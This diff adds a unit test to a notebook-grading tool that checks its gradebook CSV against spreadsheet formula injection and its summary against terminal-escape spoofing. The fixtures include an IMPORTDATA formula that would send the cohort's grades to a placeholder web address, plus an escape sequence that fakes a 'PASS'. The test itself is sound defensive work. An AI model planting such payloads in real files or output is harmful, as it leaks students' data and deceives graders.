@@ -102,6 +102,21 @@ def test_collect_merges_reports_into_a_gradebook(tmp_path, capsys):
     assert "3 submissions: 1 pass, 1 fail, 1 could not grade" in printed
 
 
+def test_gradebook_cells_are_safe_to_open_in_a_spreadsheet(tmp_path, capsys):
+    """A reason the notebook wrote (its GRADER: message) must not become a formula that could
+    send the cohort's grades to a web address, nor carry terminal escapes into the summary."""
+    evil = '=IMPORTDATA("https://example.invalid/?"&TEXTJOIN(",",1,A2:D300))'
+    reports = [Report("a.ipynb", FAIL, student="-alice", reason=evil),
+               Report("b.ipynb", FAIL, student="bob", reason="@SUM(1)\x1b[2K\rPASS"),
+               Report("c.ipynb", PASS, student="carol", accuracy=0.97, reason="")]
+    rows = list(csv.reader(gradebook.write_gradebook(reports, tmp_path / "g.csv").open()))
+    cells = [c for row in rows[1:] for c in (row[0], row[3])]
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
+    assert rows[1][0] == "'-alice" and rows[1][3] == "'" + evil
+    summary = gradebook.summary(reports)
+    assert "\x1b" not in summary and "\r" not in summary
+
+
 # --- a live single-node Slurm ----------------------------------------------------------------------
 
 def _need(condition, why):
